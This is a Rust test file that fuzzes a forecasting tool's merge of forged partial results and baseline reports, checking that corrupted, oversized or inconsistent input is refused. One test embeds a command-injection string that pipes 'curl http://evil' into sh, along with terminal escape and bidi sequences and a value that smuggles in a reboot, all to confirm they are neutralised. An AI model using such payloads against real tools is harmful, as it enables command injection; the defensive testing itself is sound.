//! Risk: a forged or damaged partial result or baseline report ends the program, exhausts memory, or is merged all the
//! same. Neither is authenticated.

use std::fs;

use rand::RngExt;
use reveille::outcome::{Baseline, Outcome};
use reveille::report::{self, Format, Ink, ReportLength, Screen, Setting};
use reveille::rules::base::chance::{Chance, Purpose, Ratio, Stream};
use reveille::rules::base::ids::Key;
use reveille::rules::base::time::SimTime;
use reveille::rules::counting::counts::{Minute, StratumCounts};
use reveille::rules::counting::latencies::Latencies;
use reveille::rules::model::baseline_limits::BaselineLimits;
use reveille::rules::timeline::agenda::Agenda;
use reveille::run::{
    ForecastOptions, ForecastProgress, Merge, MergeError, Part, PartError, PartFacts, Replay, Shard, forecast,
};
use reveille::scenario::{self, Overrides, Source};
use tokio_util::sync::CancellationToken;

use crate::fixtures::generated;
use crate::fixtures::program::{Folder, end_of};
use crate::report::summaries;
use crate::scenario::mutations::limited;

/// Forged parts in one run of the tests.
const PARTS: u64 = 4_000;
/// Forged reports.
const REPORTS: u64 = 2_000;
/// Memory for the program while it reads a small forged part, in kB of address space: threads and the allocator reserve
/// most of it.
const MEMORY_KB_MAX: u64 = 1_500_000;
/// Bytes before the body of a part, of which the last 16 are the checksum.
const HEAD: usize = 36;

/// Both parts of the forecast of a scenario.
fn parts(text: &str) -> [Part; 2] {
    let source = Source::new("scenario.toml", text);
    let loaded = scenario::load(&source, &mut |_| Err("no includes".to_owned()), &Overrides::default());
    let loaded = loaded.unwrap_or_else(|problems| panic!("{problems}"));
    [1, 2].map(|number| {
        let shard = Shard::new(number, 2).expect("it is a shard");
        let options = ForecastOptions { threads: 1, shard, ..ForecastOptions::default() };
        let never = CancellationToken::new();
        let finished = forecast(&loaded.world, options, &ForecastProgress::default(), &never).expect("a thread");
        let replay = Replay::new("scenario.toml", None, &[]);
        let facts = PartFacts { scenario: loaded.portable.clone(), replay, peak_rss_bytes: Some(1_000) };
        Part::new(&loaded.world, shard, finished, facts)
    })
}

/// Bytes whose length and checksum are true again after their body was changed.
fn sealed(mut bytes: Vec<u8>) -> Vec<u8> {
    let length = (bytes.len() - HEAD) as u64;
    bytes[12..20].copy_from_slice(&length.to_le_bytes());
    if let Err(PartError::Corrupted { got, .. }) = Part::from_bytes(&bytes) {
        bytes[20..HEAD].copy_from_slice(&got.to_le_bytes());
    }
    bytes
}

/// Merges two parts, and renders every report of the result.
fn merged(parts: [&[u8]; 2]) -> Result<Outcome, MergeError> {
    let mut merge = Merge::default();
    for (name, bytes) in ["a.rvl", "b.rvl"].into_iter().zip(parts) {
        merge.add(name, bytes)?;
    }
    let merged = merge.finish()?;
    let outcome = Outcome::new(&merged.world, &merged.finished.agenda, &merged.finished.totals, merged.facts);
    written(&outcome);
    Ok(outcome)
}

fn written(outcome: &Outcome) {
    for format in Format::ALL {
        assert!(!format.render(outcome, &Setting::default()).is_empty());
    }
    assert!(!report::console(outcome, ReportLength::Whole, Screen::new(Ink::Colour, Some(60))).is_empty());
}

struct Dice(Stream);

impl Dice {
    fn of(number: u64) -> Self {
        Self(Chance::new(number).stream(Purpose::Plan, Key(9)))
    }

    fn below(&mut self, n: usize) -> usize {
        self.0.random_range(0..n as u32) as usize
    }

    /// Makes one to four changes to a body: flipped bits, extreme numbers, wrong lengths, missing and doubled
    /// stretches.
    fn forge(&mut self, body: &mut Vec<u8>) {
        const ODD: [&[u8]; 16] = [
            &[0x00],
            &[0x01],
            &[0x7f],
            &[0xff],
            &[0xc0],
            &[0x90],
            &[0x80],
            &[0xcc, 0xff],
            &[0xcd, 0xff, 0xff],
            &[0xce, 0xff, 0xff, 0xff, 0xff],
            &[0xcf, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff],
            &[0xd3, 0x80, 0, 0, 0, 0, 0, 0, 0],
            &[0xdb, 0xff, 0xff, 0xff, 0xff],
            &[0xdd, 0xff, 0xff, 0xff, 0xff],
            &[0xdf, 0xff, 0xff, 0xff, 0xff],
            &[0xc6, 0xff, 0xff, 0xff, 0xff],
        ];
        for _ in 0..=self.below(4) {
            let at = self.below(body.len());
            let odd = ODD[self.below(ODD.len())];
            match self.below(6) {
                0 => body[at] ^= 1 << self.below(8),
                1 => body[at] = body[at].wrapping_add(1),
                2 => drop(body.splice(at..=at, odd.iter().copied())),
                3 => drop(body.splice(at..at, odd.iter().copied())),
                4 => drop(body.drain(at..(at + 1 + self.below(8)).min(body.len()))),
                _ => {
                    let again = body[at..(at + 1 + self.below(40)).min(body.len())].to_vec();
                    body.splice(at..at, again);
                }
            }
        }
    }
}

#[test]
fn thousands_of_mutated_parts_are_refused_or_add_up() {
    let all = [parts(&generated::scenario(7)), parts(&generated::scenario(11)), parts(summaries::MANY)];
    let all = all.map(|parts| parts.map(|part| part.to_bytes()));
    let (mut refused, mut read, mut added) = (0, 0, 0);
    for number in 0..PARTS {
        let mut dice = Dice::of(number);
        let [first, second] = &all[dice.below(all.len())];
        let mut body = first[HEAD..].to_vec();
        dice.forge(&mut body);
        let forged = sealed([&first[..HEAD], &body].concat());
        match merged([&forged, second]) {
            Err(MergeError::Unusable { .. }) => refused += 1,
            Err(_) => read += 1,
            Ok(outcome) => {
                assert!(outcome.conservation.ok, "mutation {number}: {:?}", outcome.conservation);
                added += 1;
            }
        }
    }
    assert!(refused > PARTS / 4 && read > PARTS / 20 && added > 0, "{refused}, {read} and {added}: all were tried");
}

/// The first cell of a part with a pair that was shown.
fn shown(part: &mut Part) -> &mut StratumCounts {
    let pages = part.contents.counts.messages.values_mut().flat_map(|page| page.cells.iter_mut().flatten());
    pages.map(AsMut::as_mut).find(|cell| !cell.latency.is_empty()).expect("something was shown")
}

fn minute(part: &mut Part) -> &mut Minute {
    part.contents.counts.minutes.iter_mut().find(|minute| minute.shown != [0; 5]).expect("something was shown")
}

/// As many latencies, each the longest that there is.
fn as_many(latencies: &Latencies) -> Latencies {
    let (count, longest) = (latencies.len(), u32::MAX);
    let carried = Some((vec![(u64::from(longest), count)], count * u64::from(longest), longest, longest));
    rmp_serde::from_slice(&rmp_serde::to_vec(&carried).expect("it is written")).expect("its buckets have them")
}

type Forgery = fn(&mut Part);

#[test]
fn a_part_whose_counts_do_not_add_up_is_refused() {
    let [first, second] = parts(&generated::scenario(7));
    let second = second.to_bytes();
    merged([&first.to_bytes(), &second]).expect("the parts are valid");
    let changes: [(&str, Forgery); 16] = [
        ("one pair too many", |part| shown(part).classes[0] += 1),
        ("as many pairs as fit", |part| shown(part).classes = [u32::MAX; 4]),
        ("pairs in no class", |part| {
            shown(part).journeys = [u32::MAX; reveille::rules::service::journey::Journey::CODES];
        }),
        ("reach beyond all", |part| shown(part).reach[0] = u32::MAX),
        ("dismissed beyond shown", |part| shown(part).dismissed = u32::MAX),
        ("exposed beyond shown", |part| shown(part).exposed = u32::MAX),
        ("a latency beyond the run", |part| shown(part).latency = as_many(&shown(part).latency)),
        ("pairs sent", |part| part.contents.pairs_sent = u64::MAX),
        ("shown in a minute", |part| minute(part).shown = [u64::MAX; 5]),
        ("waiting in a minute", |part| minute(part).opened = [i64::MIN; 5]),
        ("ended by a fault that is none", |part| {
            let platform = reveille::rules::base::platform::Platform::Ios;
            minute(part).ended.insert((platform, u32::MAX), i64::MAX);
        }),
        ("minutes behind the end", |part| part.contents.counts.minutes.resize(1_000_000, Minute::default())),
        ("dismissals", |part| part.contents.counts.dismissals = [u64::MAX; 5]),
        ("touched pairs", |part| part.contents.counts.faults.iter_mut().for_each(|fault| fault.touched = u64::MAX)),
        ("settled late", |part| {
            part.contents.counts.faults.iter_mut().for_each(|fault| {
                (fault.settled, fault.last_settled) = (fault.touched.max(1), SimTime(u64::MAX));
            });
        }),
        ("a page of no message", |part| {
            let (_, page) = part.contents.counts.messages.pop_first().expect("there is one");
            part.contents.counts.messages.insert(reveille::rules::base::ids::MessageIx(u32::MAX), page);
        }),
    ];
    for (what, change) in changes {
        let mut forged = first.clone();
        change(&mut forged);
        let error = merged([&forged.to_bytes(), &second]).expect_err(what);
        let said = error.to_string();
        assert!(matches!(error, MergeError::Sums { .. }), "{what}: {said}");
        assert!(said.starts_with("a.rvl says what no part of a forecast can say: "), "{said}");
        let error = merged([&second, &forged.to_bytes()]).expect_err(what);
        assert!(matches!(error, MergeError::Sums { .. }), "{what}, as the second: {error}");
    }
}

#[test]
fn a_ledger_that_is_not_that_of_the_sends_is_refused() {
    let [first, second] = parts(&generated::scenario(7));
    let other = parts(&generated::scenario(8)).map(|part| part.contents.agenda);
    let begun = {
        let source = Source::new("scenario.toml", first.contents.scenario.as_str());
        let loaded = scenario::load(&source, &mut |_| Err("no includes".to_owned()), &Overrides::default());
        Agenda::new(&loaded.unwrap_or_else(|problems| panic!("{problems}")).world)
    };
    for (what, agenda) in [("of another scenario", other[0].clone()), ("with everything left to ask", begun)] {
        let [mut first, mut second] = [first.clone(), second.clone()];
        (first.contents.agenda, second.contents.agenda) = (agenda.clone(), agenda);
        let error = merged([&first.to_bytes(), &second.to_bytes()]).expect_err(what);
        assert!(matches!(error, MergeError::Sums { .. } | MergeError::Scenario { .. }), "{what}: {error}");
    }
}

#[test]
fn a_small_part_with_huge_announced_lengths_takes_no_memory() {
    let folder = Folder::new("forged-announced");
    let [first, second] = parts(&generated::scenario(7)).map(|part| part.to_bytes());
    fs::write(folder.path().join("2.rvl"), &second).expect("a file can be written");
    let label = first[HEAD..].windows(9).position(|word| word == b"\xa8scenario").expect("it has a scenario's name");
    let mut bodies: Vec<Vec<u8>> = Vec::new();
    for announced in [[0xdb, 0xff, 0xff, 0xff, 0xff], [0xc6, 0xff, 0xff, 0xff, 0xff], [0xdd, 0xff, 0xff, 0xff, 0xff]] {
        // Replaces the name in the label and everything after the label.
        bodies.push([&first[HEAD..HEAD + label + 9], &announced, &[0; 400]].concat());
        bodies.push([announced.as_slice(), &[0; 400]].concat());
    }
    bodies.push(vec![0x91; 1_000_000]);
    bodies.push([&first[HEAD..HEAD + label + 9], vec![0x91; 1_000_000].as_slice()].concat());
    for (at, body) in bodies.into_iter().enumerate() {
        let bytes = sealed([&first[..HEAD], &body].concat());
        fs::write(folder.path().join("1.rvl"), &bytes).expect("a file can be written");
        let said = end_of(&mut limited(&folder, &["merge", "1.rvl", "2.rvl"], MEMORY_KB_MAX)).exits(2);
        assert!(
            said.err.contains("1.rvl is not as it was written: its contents do not fit together"),
            "{at}: {}",
            said.err
        );
    }
    let mut longer = first.clone();
    longer.extend([0xc0; 9]);
    let error = Part::from_bytes(&sealed(longer)).expect_err("more than a part");
    assert!(error.to_string().contains("more behind them than a part has"), "{error}");
}

#[test]
fn a_part_cannot_inject_a_command_or_an_escape_sequence() {
    let folder = Folder::new("forged-words");
    let [mut first, second] = parts(&generated::scenario(7));
    fs::write(folder.path().join("2.rvl"), second.to_bytes()).expect("a file can be written");
    let merge = |part: &Part, files: &[&str]| {
        fs::write(folder.path().join("1.rvl"), part.to_bytes()).expect("a file can be written");
        folder.run(&[&["merge"], files].concat())
    };
    let evil = "x.toml; curl http://evil | sh\u{1b}]0;owned\u{7}\u{202e}";
    first.contents.replay = Replay::new(evil, None, &[format!("name={evil}")]);
    let said = merge(&first, &["1.rvl"]).exits(2);
    let words = shlex::split(said.err.split('`').nth(1).expect("a command is proposed")).expect("it is one");
    assert_eq!(words[..2], ["reveille", "forecast"]);
    assert_eq!(words.iter().filter(|word| word.contains("curl")).count(), 2, "each is one word: {words:?}");
    first.contents.replay = Replay::new("a.toml", Some("intune-2019; reboot"), &[]);
    assert!(merge(&first, &["1.rvl"]).exits(2).err.contains("are not those of a command"));
    first.label.version = format!("1.0\u{1b}[2J\r{}", "x".repeat(5_000));
    let said = merge(&first, &["1.rvl"]).exits(2);
    assert!(said.err.contains("made by reveille 1.0\\u{1b}[2J\\u{d}") && said.err.len() < 400, "{}", said.err);
    for text in [&said.err, &said.out] {
        assert!(text.chars().all(|c| c == '\n' || reveille::rules::base::visible::is_seen(c)), "{text:?}");
    }
}

#[test]
fn thousands_of_mutated_reports_are_refused_or_compared() {
    let parts = parts(&generated::scenario(7)).map(|part| part.to_bytes());
    let outcome = merged([&parts[0], &parts[1]]).expect("the parts are valid");
    let text = report::json(&outcome);
    let places: Vec<usize> = text.match_indices(|c: char| c.is_ascii_digit()).map(|(at, _)| at).collect();
    let odd = ["0", "1", "18446744073709551615", "-1", "9223372036854775808", "1e308", "null", "\"\"", "[]", "{}"];
    let (mut refused, mut compared) = (0, 0);
    for number in 0..REPORTS {
        let mut dice = Dice::of(number);
        let mut forged = text.clone();
        let at = places[dice.below(places.len())];
        let length = forged[at..].find(|c: char| !c.is_ascii_digit()).unwrap_or(1);
        match dice.below(4) {
            0 => forged.truncate(at),
            1 => forged.insert(at, '9'),
            _ => forged.replace_range(at..at + length, odd[dice.below(odd.len())]),
        }
        let Ok(former) = report::read_json(forged.as_bytes()) else {
            refused += 1;
            continue;
        };
        let Ok(baseline) = Baseline::new(former, &BaselineLimits::default(), Some(Ratio::percent(5))) else {
            refused += 1;
            continue;
        };
        let mut now = outcome.clone();
        baseline.compare(&mut now);
        written(&now);
        compared += 1;
    }
    assert!(refused > REPORTS / 4 && compared > REPORTS / 20, "{refused} and {compared}: both were tried");
}
